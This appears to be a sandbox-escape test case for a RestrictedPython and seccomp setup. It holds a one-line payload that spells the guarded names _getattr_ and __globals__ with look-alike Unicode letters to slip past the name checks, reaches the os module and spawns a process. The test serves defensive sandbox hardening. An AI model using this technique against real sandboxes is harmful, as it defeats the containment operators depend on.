# attack: look-alike unicode identifiers
# stops: restrictedpython: "_getattr_" is an invalid variable name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# a look-alike of the guard hook _getattr_ and of __globals__
os = _𝗀etattr_.__𝗀lobals__["BrokerClient"].call.__globals__["frames"].os
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
